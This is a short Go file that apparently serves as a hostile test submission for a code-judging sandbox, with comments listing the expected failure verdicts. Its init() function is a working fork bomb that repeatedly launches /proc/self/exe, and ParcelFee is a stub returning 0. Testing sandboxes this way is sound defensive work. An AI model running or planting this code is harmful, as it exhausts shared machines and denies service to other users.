// expect: failed runtime_error timeout memory_limit
// separate: failed incomplete memory_limit runtime_error timeout
// attack: starts copies of itself until nobody can
import "os/exec"

func init() {
	for i := 0; i < 100; i++ {
		exec.Command("/proc/self/exe").Start()
	}
}

func ParcelFee(sides []int, grams int) int { return 0 }
